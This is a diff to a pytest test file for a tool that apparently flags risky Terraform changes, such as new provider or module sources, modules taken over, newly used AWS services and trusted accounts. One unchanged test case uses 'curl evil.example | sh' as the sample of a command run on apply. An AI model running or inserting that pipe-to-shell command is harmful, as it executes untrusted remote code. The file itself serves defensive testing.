@@ -197,6 +197,15 @@ ROLE = """resource "aws_iam_role" "deploy" {
 """
 
 
+PROVIDERS = 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n%s  }\n}\n'
+NEW = '    new = { source = "acme/new", version = "%s" }\n'
+COUNTED, LOCAL = MODULE.replace("{\n", "{\n  count = 1\n", 1), 'module "cdn" {\n  source = "./m"\n}\n'
+SERVICE = 'resource "aws_%s" "x" {\n}\n'
+MANAGED = "".join(f'provider "aws" {{\n  alias  = "{name}"\n  region = "{name}-west-1"\n}}\n' for name in "abc") + (
+    'resource "aws_s3_bucket" "x" {\n  bucket   = "x"\n  provider = aws.%s\n}\n'
+)
+
+
 @pytest.mark.parametrize(
     ("rule", "before", "one", "other"),
     [
@@ -209,6 +218,21 @@ ROLE = """resource "aws_iam_role" "deploy" {
         ),
         ("command-run-on-apply", {"a.tf": ""}, {"a.tf": RUN % "true"}, {"a.tf": RUN % "curl evil.example | sh"}),
         ("module-source-new", {"a.tf": ""}, {"a.tf": MODULE % "1.0.0"}, {"a.tf": MODULE % "2.0.0"}),
+        ("module-source-new", {"a.tf": PROVIDERS % ""}, {"a.tf": PROVIDERS % NEW % "1.0"}, {"a.tf": PROVIDERS % NEW % "2.0"}),
+        ("module-made-anew", {"a.tf": MODULE % "1.0.0"}, {"a.tf": COUNTED % "1.0.0"}, {"a.tf": COUNTED % "2.0.0"}),
+        (
+            "module-taken-over",
+            {"a.tf": MODULE % "1.0.0", "m/a.tf": ""},
+            {"a.tf": LOCAL, "m/a.tf": PLAIN_BUCKET % ("a", "a")},
+            {"a.tf": LOCAL, "m/a.tf": PLAIN_BUCKET % ("a", "a") + 'resource "aws_dynamodb_table" "t" {\n  name = "t"\n}\n'},
+        ),
+        (
+            "service-first-used",
+            {"a.tf": PLAIN_BUCKET % ("a", "a")},
+            {"a.tf": PLAIN_BUCKET % ("a", "a") + SERVICE % "sagemaker_domain"},
+            {"a.tf": PLAIN_BUCKET % ("a", "a") + SERVICE % "sagemaker_domain" + SERVICE % "redshift_cluster"},
+        ),
+        ("data-left-behind", {"a.tf": MANAGED % "a"}, {"a.tf": MANAGED % "b"}, {"a.tf": MANAGED % "c"}),
         ("aws-account-trusted", {"a.tf": ""}, {"a.tf": ROLE % ", Condition = {StringEquals = {x = 1}}"}, {"a.tf": ROLE % ""}),
         (
             "state-moved",
